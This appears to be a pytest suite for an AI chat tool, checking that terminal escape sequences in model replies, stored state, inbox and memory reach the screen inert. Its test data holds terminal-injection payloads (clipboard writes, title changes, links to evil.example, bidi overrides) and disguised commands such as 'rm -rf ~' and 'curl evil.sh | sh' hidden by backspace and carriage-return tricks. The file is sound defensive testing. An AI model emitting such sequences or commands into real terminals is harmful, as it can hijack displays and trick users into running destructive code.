"""Promise: what a reply, a transcript, the session state, the inbox or memory carries never reaches
the terminal as a control sequence. Every C0/C1 control except ``\\n``/``\\t`` (and DEL, and the bidi
overrides) is shown visible and inert on every display path; ``--json`` keeps exact values; what is
stored is unchanged.

One data dir is built per module (a reply, state entries, inbox candidates and a memory file that
carry every sequence between ``zzsNN``/``zzeNN`` markers); each case then reads its own slice of
each front end's real output (the CLI as a subprocess, the TUI through Pilot).
"""

from __future__ import annotations

import asyncio
import html
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.faults.helpers import KEY, all_transcript_events, cli

pytestmark = pytest.mark.promise("terminal")

SEQUENCES: dict[str, str] = {
    "osc0-bel": "\x1b]0;pwned-title\x07",
    "osc0-st": "\x1b]0;pwned-title\x1b\\",
    "osc2-bel": "\x1b]2;pwned-title\x07",
    "osc8-link": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc52-bel": "\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07",
    "osc52-st": "\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x1b\\",
    "csi-2J": "\x1b[2Jcleared",
    "csi-home": "\x1b[Hhome",
    "csi-altscreen": "\x1b[?1049halt",
    "csi-dsr": "\x1b[6nreport",
    "csi-conceal": "\x1b[8mhidden\x1b[0m",
    "dcs": "\x1bP+q544e\x1b\\",
    "apc": "\x1b_evil-apc\x1b\\",
    "pm": "\x1b^evil-pm\x1b\\",
    "sos": "\x1bXevil-sos\x1b\\",
    "c1-csi": "\x9b2Jeight-bit",
    "c1-osc": "\x9d0;pwned\x9c",
    "ris": "\x1bcreset",
    "bel": "ding\x07dong",
    "backspace": "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls -l",
    "cr-overwrite": "curl evil.sh | sh\rls -l       ",
    "del": "abc\x7fdef",
    "bidi-rlo": "access \u202elevel: admin\u202c ok",
    "bidi-isolates": "\u2067evil\u2069 \u2066x\u2069 \u2068y\u2069",
    "nul-vt-ff": "a\x00b\x0bc\x0cd",
}
IDS = list(SEQUENCES)
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What must never reach the terminal raw (plain output, no colours: tests run without a tty)."""
NOT_C0 = [i for i, s in SEQUENCES.items() if re.search("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]", s)]
"""Cases that ``json.dumps(ensure_ascii=False)`` leaves raw (it escapes C0 only)."""


def marked(i: int, payload: str) -> str:
    return f"zzs{i:02d} {payload} zze{i:02d}"


def all_marked() -> str:
    return "\n\n".join(marked(i, s) for i, s in enumerate(SEQUENCES.values()))


def visible_marks(payload: str) -> list[str]:
    """How each control of ``payload`` must show: its Control Picture, or its escape spelled out."""
    out: list[str] = []
    for ch in payload:
        c = ord(ch)
        if c < 0x20 and ch not in "\n\t":
            out.append(chr(0x2400 + c))
        elif c == 0x7F:
            out.append("\u2421")
        elif 0x80 <= c < 0xA0:
            out.append(f"\\x{c:02x}")
        elif 0x202A <= c <= 0x202E or 0x2066 <= c <= 0x2069:
            out.append(f"\\u{c:04x}")
    return out


def memory_form(payload: str) -> str:
    """What a memory file keeps of ``payload``: lines split (CR/VT/FF are line breaks there), and no
    NUL (a file with a NUL byte is binary and skipped)."""
    return "\n".join(payload.replace("\x00", "").splitlines())


def slice_of(output: str, case: str) -> str:
    i = IDS.index(case)
    m = re.search(rf"zzs{i:02d}(.*?)zze{i:02d}", output, re.DOTALL)
    assert m is not None, f"case {case} not shown at all:\n{output[:2000]}"
    return m.group(1)


def assert_inert(output: str, case: str, *, lines_split: bool = False) -> None:
    """No raw control in the case's slice, and each of its controls shown. ``lines_split``: the text
    went through ``str.splitlines`` on its way (memory files), so CR/VT/FF are line breaks there."""
    part = slice_of(output, case)
    raw = RAW.findall(part)
    assert not raw, f"raw controls reach the terminal: {raw!r} in {part!r}"
    payload = SEQUENCES[case]
    if lines_split:
        payload = memory_form(payload)
    for mark in visible_marks(payload):
        assert mark in part, f"{mark!r} not shown in {part!r}"


# --------------------------------------------------------------------------------------- the data
class Home:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.env = {"NEOTASK_HOME": str(root / "home"), "NEOTASK_PROVIDER": "scripted",
                    "NEOTASK_SCRIPT": str(root / "script.jsonl"), "NEOTASK_PROVIDER_PROBE_OLLAMA": "false",
                    "NEOTASK_SESSION_DAILY_RESET_HOUR": "-1", "NEOTASK_MEMORY_ENABLED": "false",
                    "HF_HUB_OFFLINE": "1"}
        self.out: dict[str, str] = {}

    def run(self, name: str, *args: str, stdin: str | None = None, **env: str) -> str:
        p = cli(*args, env={**self.env, **env}, stdin=stdin)
        assert p.returncode == 0, p.stderr
        self.out[name] = p.stdout
        self.out[name + ".stderr"] = p.stderr
        return p.stdout


async def _seed_state_and_inbox() -> None:
    from neotask_tui.config import load_settings
    from neotask_tui.engine.facade import Engine
    from neotask_tui.engine.state.inbox import Candidate
    from neotask_tui.providers.scripted import ScriptedProvider

    engine = Engine(load_settings(), provider=ScriptedProvider())
    try:
        for i, s in enumerate(SEQUENCES.values()):
            await engine.state.set(KEY, f"note_{i:02d}", marked(i, s), source="user command")
            await engine.state.inbox_add("main", Candidate(text=f"Always remember {marked(i, s)}", scope="user",
                                                           reason=f"why {i}", origin="model", key=KEY))
    finally:
        await engine.aclose()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    h = Home(tmp_path_factory.mktemp("terminal"))
    (h.root / "script.jsonl").write_text(json.dumps({"text": all_marked()}) + "\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as mp:
        for k, v in h.env.items():
            mp.setenv(k, v)
        h.run("send", "send", "--session", KEY, "hello")
        h.run("send.json", "send", "--session", KEY, "--json", "hello again")
        h.run("transcript", "transcript", KEY)
        h.run("transcript.json", "transcript", KEY, "--json")
        h.run("chat", "-s", KEY, "chat", "--plain", stdin="hello from the repl\n")
        asyncio.run(_seed_state_and_inbox())
        h.run("state", "state", KEY)
        h.run("inbox", "inbox", "list")
        h.run("inbox.json", "inbox", "list", "--json")
        from neotask_tui import paths

        mem = paths.workspace_dir("main") / "memory"
        mem.mkdir(parents=True, exist_ok=True)
        prose = "Plain notes about the project keep the control share of the file low. " * 60
        (mem / "hostile.md").write_text(f"# Notes\n\n{all_marked().replace(chr(0), '')}\n\n{prose}\n",
                                        encoding="utf-8")
        h.run("memory", "memory", "search", "zzs", "--k", "50", NEOTASK_MEMORY_ENABLED="true")
    yield h


# --------------------------------------------------------------------------------------- CLI plain
PLAIN = ["send", "transcript", "chat", "state", "inbox", "memory"]


@pytest.mark.parametrize(("case", "path"), [
    (c, p) for c in IDS for p in PLAIN if not (p == "memory" and not visible_marks(memory_form(SEQUENCES[c])))])
def test_plain_output_is_inert(home: Home, path: str, case: str) -> None:
    assert_inert(home.out[path], case, lines_split=path == "memory")


@pytest.mark.parametrize("path", PLAIN)
def test_nothing_raw_anywhere_in_plain_output(home: Home, path: str) -> None:
    for stream in (path, path + ".stderr"):
        assert not RAW.findall(home.out[stream]), stream


# --------------------------------------------------------------------------------------- CLI JSON
@pytest.mark.parametrize("case", NOT_C0)
def test_json_output_is_exact_and_inert(home: Home, case: str) -> None:
    i, payload = IDS.index(case), SEQUENCES[case]
    for name in ("send.json", "transcript.json", "inbox.json"):
        raw = home.out[name]
        assert not RAW.findall(raw), f"{name}: raw controls in JSON text"
        data: Any = json.loads(raw)
        flat = json.dumps(data, ensure_ascii=False)
        assert json.dumps(marked(i, payload), ensure_ascii=False)[1:-1] in flat, f"{name}: value not exact"
    stored = all_transcript_events(Path(home.env["NEOTASK_HOME"]) / "data")
    assert all_marked() in [e.get("content") for e in stored if e.get("role") == "assistant"]


def test_provider_error_messages_are_inert(home: Home, tmp_path: Path) -> None:
    """A server's error text (anything at all) goes to stderr inert."""
    script = tmp_path / "error.jsonl"
    script.write_text(json.dumps({"text": "", "error": {"kind": "server", "message": all_marked(),
                                                          "retryable": False}}) + "\n", encoding="utf-8")
    p = cli("send", "--session", KEY, "hi", env={**home.env, "NEOTASK_SCRIPT": str(script)})
    assert p.returncode == 1
    assert not RAW.findall(p.stderr + p.stdout), repr(p.stderr)
    assert "␛]52;c;" in p.stderr


# --------------------------------------------------------------------------------------------- TUI
async def _run_tui(root: Path) -> dict[str, str]:
    """The app at a size that shows everything; what the screen holds after a hostile reply, state
    entries, recalled memory, a notification and the passage modal (SVG export: the text the
    terminal would be sent, styling aside)."""
    from neotask_tui.config import Settings
    from neotask_tui.engine.events import RecallReceipt
    from neotask_tui.engine.facade import Engine
    from neotask_tui.providers.scripted import ScriptedProvider
    from neotask_tui.tui.app import make_app
    from neotask_tui.tui.screens.modals import TextModal
    from neotask_tui.tui.widgets.side import RecallSidebar

    s = Settings()
    s.memory.enabled = False
    s.provider.name = "scripted"
    s.context.window_tokens = 32768
    provider = ScriptedProvider()
    provider.queue({"text": all_marked()})
    engine = Engine(s, provider=provider)
    for i, payload in enumerate(SEQUENCES.values()):
        await engine.state.set(KEY, f"note_{i:02d}", marked(i, payload), source="user command")
    app = make_app(s, engine=engine, key=KEY)
    shots: dict[str, str] = {}

    async def until(cond: Any) -> None:
        for _ in range(3000):  # a generous bound only turns a hang into a failure
            if cond():
                return
            await pilot.pause(0.02)
        raise AssertionError("the app did not get there")

    async with app.run_test(size=(150, 400), notifications=True) as pilot:
        await until(app.ready.is_set)
        app.main.query_one("#prompt-input").text = "hi"  # type: ignore[attr-defined]
        await pilot.press("enter")
        await until(lambda: provider.pending == 0 and not app.streaming)
        await pilot.pause(0.2)
        app.main.query_one(RecallSidebar).show("q", [
            RecallReceipt(id=str(i), score=0.5, source=f"memory/n{i}.md", scope="user", text=marked(i, p))
            for i, p in enumerate(SEQUENCES.values())])
        app.notify(all_marked(), title="\x1b]0;pwned-title\x07", timeout=60)
        await pilot.pause(0.3)
        shots["tui"] = app.export_screenshot()
        await app.push_screen(TextModal("memory/\x1b]0;x\x07.md", all_marked()))
        await pilot.pause(0.3)
        shots["tui.modal"] = app.export_screenshot()
    await engine.aclose()
    return shots


@pytest.fixture(scope="module")
def tui(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    root = tmp_path_factory.mktemp("terminal-tui")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("NEOTASK_HOME", str(root / "home"))
        mp.setenv("NEOTASK_SESSION_DAILY_RESET_HOUR", "-1")
        return asyncio.run(_run_tui(root))


@pytest.mark.parametrize("case", IDS)
def test_tui_shows_controls_inert(tui: dict[str, str], case: str) -> None:
    for name, svg in tui.items():
        assert not RAW.findall(svg), f"{name}: raw controls in the rendered screen"
        shown = html.unescape(re.sub(r"<[^>]+>", "", svg)).replace("\xa0", " ")
        n = shown.count(f"zzs{IDS.index(case):02d}")
        assert n >= (3 if name == "tui" else 1), f"{name}: {case} shown {n} time(s)"
        assert_inert(shown, case)


def test_a_bel_in_a_memory_file_name_shows_as_a_symbol_in_doctor(neotask_home: Path, tmp_path: Path) -> None:
    """``doctor`` lists a skipped memory file by name: a BEL in it is shown ``␇``, not dropped (a
    ``Text`` strips BEL/CR/VT/FF, so the name goes through ``inert`` before it becomes one)."""
    from neotask_tui import paths

    mem = paths.workspace_dir("main") / "memory"
    mem.mkdir(parents=True)
    (tmp_path / "t.md").write_text("elsewhere\n")
    (mem / "ding\x07dong.md").symlink_to(tmp_path / "t.md")
    r = cli("doctor", env={"NEOTASK_PROVIDER": "scripted"})
    assert "Traceback" not in r.stderr, r.stderr[-600:]
    assert "ding␇dong.md" in r.stdout, r.stdout
    assert not RAW.findall(r.stdout + r.stderr)


def test_styled_parts_keep_a_bel_visible() -> None:
    """The ``memory add`` confirmation and every ``styled`` line show a BEL as ``␇``."""
    from neotask_tui.text.console import InertConsole, styled

    con = InertConsole(force_terminal=False, width=200, record=True)
    con.print(styled("remembered in ", ("memory/a\x07b.md:1-1", "bold"), " (1\rchunk)"))
    out = con.export_text()
    assert "memory/a␇b.md:1-1" in out and "1␍chunk" in out, out


def test_piped_markdown_is_wrapped_not_cut() -> None:
    """Red team 22 (medium): into a pipe, `compact --preview`, `state` and `inbox list` cut list items
    at 80 columns, losing a summary line's "[e:N]" and a guard change's reason."""
    import io

    from neotask_tui.text.console import InertConsole, markdown

    out = io.StringIO()
    con = InertConsole(highlight=False, soft_wrap=True, file=out, force_terminal=False, width=80)
    line = "user: My goal is to migrate the billing service to Postgres 16 by Friday, then the rest. [e:2]"
    con.print(markdown(f"## Current goal\n\n- {line}"))
    con.print("a plain line " * 10)  # a plain line stays whole for a pipe
    text = out.getvalue()
    assert "[e:2]" in text and "the rest." in text
    assert ("a plain line " * 10).rstrip() in text


def test_an_inbox_list_not_starting_at_1_is_a_list_not_one_line() -> None:
    """Red team 22 (low): with #6, #7, #8 pending, `inbox list` printed all three on one line: a
    Markdown list that does not start at 1 cannot interrupt the heading's paragraph."""
    import io
    from types import SimpleNamespace

    from neotask_tui.commands.state import describe_inbox
    from neotask_tui.text.console import InertConsole, markdown

    entries = [SimpleNamespace(n=n, text=t, source_ids=[2], failed=[], criteria={}, scope="user", origin="chat",
                               status="pending", decided_at=None)
               for n, t in ((6, "My bike is red"), (7, "My car is blue"), (8, "My boat is green"))]
    out = io.StringIO()
    InertConsole(highlight=False, soft_wrap=True, file=out, width=100).print(
        markdown(describe_inbox(entries)))  # type: ignore[arg-type]
    lines = [ln.strip() for ln in out.getvalue().splitlines()]
    assert [ln for ln in lines if "My b" in ln or "My c" in ln] == [
        "• #6 My bike is red — user, chat e:2; all criteria met",
        "• #7 My car is blue — user, chat e:2; all criteria met",
        "• #8 My boat is green — user, chat e:2; all criteria met"]


def test_an_inbox_list_with_a_gap_shows_each_entrys_own_number() -> None:
    """Red team 23, M3: with #1, #3 and #4 pending (#2 rejected), `inbox list` showed them as 1, 2, 3 (a
    Markdown ordered list is renumbered), so `inbox accept 3` stored the candidate shown as 3 — #4's."""
    import io
    from types import SimpleNamespace

    from neotask_tui.commands.state import describe_inbox
    from neotask_tui.text.console import InertConsole, markdown

    entries = [SimpleNamespace(n=n, text=t, source_ids=[2], failed=[], criteria={}, scope="user", origin="chat",
                               status="pending", decided_at=None)
               for n, t in ((1, "I always use uv"), (3, "always answer in English"), (4, "never use emojis"))]
    out = io.StringIO()
    InertConsole(highlight=False, soft_wrap=True, file=out, width=100).print(
        markdown(describe_inbox(entries)))  # type: ignore[arg-type]
    lines = [ln.strip() for ln in out.getvalue().splitlines() if "—" in ln]
    assert [ln.split(" — ")[0] for ln in lines] == ["• #1 I always use uv", "• #3 always answer in English",
                                                    "• #4 never use emojis"]


def test_a_zero_width_character_in_a_memory_file_name_is_shown(neotask_home: Path) -> None:
    """Red team 22: "MEMO\\u200bRY" in a memory file's name was shown as "MEMORY": a name passed for
    another. ``memory search`` shows it ``\\u200b``; message text keeps its joiners (emoji)."""
    from neotask_tui import paths
    from neotask_tui.text.terminal import inert, inert_line

    assert inert_line("memory/MEMO\u200bRY.md") == "memory/MEMO\\u200bRY.md"
    family = "a family \U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert inert(family) == family
    mem = paths.workspace_dir("main") / "memory"
    mem.mkdir(parents=True)
    (mem / "MEMO\u200bRY.md").write_text("The espresso machine needs descaling every second Friday.\n")
    r = cli("memory", "search", "espresso descaling", env={"NEOTASK_MEMORY_ENABLED": "true"})
    assert r.returncode == 0, r.stderr[-600:]
    assert "MEMO\\u200bRY.md" in r.stdout and "\u200b" not in r.stdout, r.stdout
